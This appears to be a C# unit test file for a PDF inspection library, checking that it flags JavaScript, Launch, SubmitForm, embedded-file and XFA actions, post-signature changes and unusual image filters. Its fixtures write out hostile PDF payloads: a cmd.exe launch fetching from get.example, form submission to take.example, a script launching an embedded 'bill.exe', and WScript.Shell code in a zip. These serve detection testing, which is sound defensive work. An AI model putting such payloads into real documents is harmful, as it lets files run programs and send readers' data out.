using System.Text;

namespace Bezel.Documents.Tests;

public class PdfActionTests
{
    private static DocumentInspection Inspect(byte[] content) => DocumentInspection.Inspect("x.pdf", null, content);
    private static string[] Details(DocumentInspection seen, FactKind kind) => [.. seen.Facts.Where(fact => fact.Kind == kind).Select(fact => fact.Detail)];
    private static DocumentInspection Pdf(string catalog = "", string page = "", params string[] more) => Inspect(SampleFiles.Pdf("BT /F1 12 Tf 10 10 Td (Bill) Tj ET", catalog: catalog, page: page, more: more));
    private static string Stream(string dictionary, string content) => $"<<{dictionary}/Length {content.Length}>>\nstream\n{content}\nendstream";

    [Theory]
    [InlineData("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", FactKind.JavaScript, "app.alert(1)")]
    [InlineData("/OpenAction<</S/JavaScript/JS 6 0 R>>", FactKind.JavaScript, "from a stream();")]
    [InlineData("/OpenAction<</#53/J#61vaScript/JS(hidden name)>>", FactKind.JavaScript, "hidden name")]
    [InlineData("/Names<</JavaScript<</Kids[<</Names[(a)<</S/JavaScript/JS(in a tree)>>]>>]>>>>", FactKind.JavaScript, "in a tree")]
    [InlineData("/AA<</WC<</S/JavaScript/JS(on closing)>>>>", FactKind.OpenAction, "JavaScript")]
    [InlineData("/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c start http://get.example/a)>>>>", FactKind.Launch, "cmd.exe /c start http://get.example/a")]
    [InlineData("/OpenAction<</S/Launch/F<</Type/Filespec/F(calc.exe)>>>>", FactKind.Launch, "calc.exe")]
    [InlineData("/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://take.example/f)>>>>", FactKind.SubmitForm, "https://take.example/f")]
    [InlineData("/OpenAction<</S/GoToR/F(\\\\\\\\files.example\\\\a.pdf)>>", FactKind.OpensElsewhere, "\\\\files.example\\a.pdf")]
    [InlineData("/OpenAction<</S/ImportData/F(a.fdf)>>", FactKind.ExternalContent, "a.fdf")]
    [InlineData("/OpenAction<</S/Named/N/Print/Next[<</S/JavaScript/JS(after that)>>]>>", FactKind.JavaScript, "after that")]
    [InlineData("/Outlines<</First<</Title(x)/A<</S/Launch/F(calc.exe)>>>>>>", FactKind.Launch, "calc.exe")]
    public void Says_what_its_actions_do(string catalog, FactKind kind, string detail)
    {
        Details(Pdf(catalog, "", Stream("", "from a stream();")), kind).ShouldContain(detail);
    }

    [Fact]
    public void Leaves_a_place_to_open_at_alone()
    {
        Pdf("/OpenAction[3 0 R/Fit]").Facts.ShouldBeEmpty();
        Pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>").Facts.ShouldBeEmpty();
    }

    [Fact]
    public void Reads_what_a_script_opens_or_sends()
    {
        DocumentInspection seen = Pdf("/OpenAction<</S/JavaScript/JS(var a='http://ge'+'t.example/b'; app.launchURL\\(a,true\\); this.exportDataObject\\({cName:'bill.exe', nLaunch:2}\\);)>>");
        seen.Links.ShouldBe(["http://get.example/b"]);
        Details(seen, FactKind.Launch).ShouldHaveSingleItem().ShouldContain("bill.exe");
        Details(seen, FactKind.OpensElsewhere).ShouldHaveSingleItem().ShouldContain("http://get.example/b");
    }

    [Fact]
    public void Opens_the_files_inside()
    {
        string zip = Encoding.Latin1.GetString(SampleFiles.Zip(("bill.js", "var a = new ActiveXObject('WScript.Shell');\na.Run('calc.exe');\neval('1');")));
        DocumentInspection seen = Pdf("/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(bill.zip)/UF(bill.zip)/EF<</F 6 0 R/UF 6 0 R>>>>]>>>>", "", Stream("/Type/EmbeddedFile", zip));
        Details(seen, FactKind.EmbeddedFile).ShouldBe(["bill.zip"]);
        seen.Files.ShouldContain(file => file.Where == "bill.zip" && file.Type == FileType.Zip);
        seen.Facts.ShouldContain(fact => fact.Kind == FactKind.StartsProgram && fact.Where == "bill.zip/bill.js");
    }

    [Fact]
    public void Says_what_is_named_but_cannot_be_reached()
    {
        byte[] file = SampleFiles.Pdf("BT ET", catalog: "/OpenAction<</S/Launch/F(calc.exe)>>");
        // Locked with a password: the names of actions still stand in the clear.
        Encoding.Latin1.GetString(file).ShouldContain("/Launch");
        byte[] locked = Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(file).Replace("/Root 1 0 R>>", "/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O<" + new string('0', 64) + ">/U<" + new string('1', 64) + ">/P -4>>/ID[<00><00>]>>", StringComparison.Ordinal));
        DocumentInspection seen = Inspect(locked);
        seen.Encrypted.ShouldBeTrue();
        seen.Has(FactKind.Launch).ShouldBeTrue();
        seen.CouldNotCheck.ShouldNotBeNull();
    }

    [Fact]
    public void Reads_forms_written_in_xml()
    {
        string xfa = "<xdp><template><subform><field name=\"payee\"><caption><value><text>Pay to</text></value></caption><event><script contentType=\"application/x-javascript\">app.launchURL(\"http://get.example/x\");</script></event></field><submit target=\"https://take.example/xfa\"/></subform></template></xdp>";
        DocumentInspection seen = Pdf("/AcroForm<</XFA 6 0 R>>", "", Stream("", xfa));
        seen.Text.ShouldContain("Pay to");
        Details(seen, FactKind.SubmitForm).ShouldBe(["https://take.example/xfa"]);
        Details(seen, FactKind.JavaScript)[0].ShouldStartWith("app.launchURL");
        seen.Links.ShouldContain("http://get.example/x");
        Pdf("/AcroForm<</XFA 6 0 R>>", "", Stream("", xfa[..60])).Defects.ShouldContain(d => d.Kind == DocumentDefectKind.Damaged);
    }

    [Fact]
    public void Counts_later_changes_and_says_when_they_follow_a_signature()
    {
        byte[] first = SampleFiles.Pdf("BT /F1 12 Tf 10 10 Td (Bill) Tj ET");
        Inspect(first).Has(FactKind.LaterChanges).ShouldBeFalse();
        byte[] update = SampleFiles.Latin("\n9 0 obj\n<</X 1>>\nendobj\nxref\n9 1\n0000000000 00000 n \ntrailer\n<</Size 10/Root 1 0 R/Prev 9>>\nstartxref\n" + first.Length + "\n%%EOF\n");
        Details(Inspect([.. first, .. update]), FactKind.LaterChanges).ShouldBe(["once"]);
        string place = "/ByteRange[0 10 20 " + "0000000000" + "]";
        byte[] signed = SampleFiles.Pdf("BT /F1 12 Tf 10 10 Td (Bill) Tj ET", more: $"<</Type/Sig/Name(Mara Lind){place}/Contents<00>>>");
        signed = Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(signed).Replace("0000000000]", (signed.Length - 20).ToString("D10", System.Globalization.CultureInfo.InvariantCulture) + "]", StringComparison.Ordinal));
        Details(Inspect(signed), FactKind.Signature).ShouldBe(["Mara Lind"]);
        Inspect(signed).Has(FactKind.LaterChanges).ShouldBeFalse();
        Details(Inspect([.. signed, .. update]), FactKind.LaterChanges).ShouldBe(["once, also after it was signed"]);
    }

    [Fact]
    public void Says_when_a_picture_is_of_a_kind_that_is_not_looked_at()
    {
        DocumentInspection seen = Pdf("", "", Stream("/Subtype/Image/Width 400/Height 400/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode", new string('x', 3000)));
        seen.CouldNotCheck.ShouldNotBeNull();
        Pdf("", "", Stream("/Subtype/Image/Width 16/Height 16/BitsPerComponent 1/ColorSpace/DeviceGray", new string('x', 32))).CouldNotCheck.ShouldBeNull();
        Pdf("", "", Stream("/Subtype/Image/Width 999999/Height 999999/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode", "x")).CouldNotCheck.ShouldNotBeNull();
    }

    [Fact]
    public void Bounds_actions_that_go_in_circles()
    {
        Pdf("/OpenAction 6 0 R", "", "<</S/JavaScript/JS(a)/Next[6 0 R 7 0 R 6 0 R]>>", "<</S/URI/URI(http://a.example)/Next 6 0 R>>").Has(FactKind.OpenAction).ShouldBeTrue();
        string self = "<</Type/Filespec/F(a)/EF<</F 6 0 R>>>>";
        Pdf("/Names 7 0 R", "", Stream("/Type/EmbeddedFile", Encoding.Latin1.GetString(SampleFiles.Pdf("BT ET", more: self))), self).Defects.Where(d => d.Kind == DocumentDefectKind.ReaderFailed).ShouldBeEmpty();
    }
}
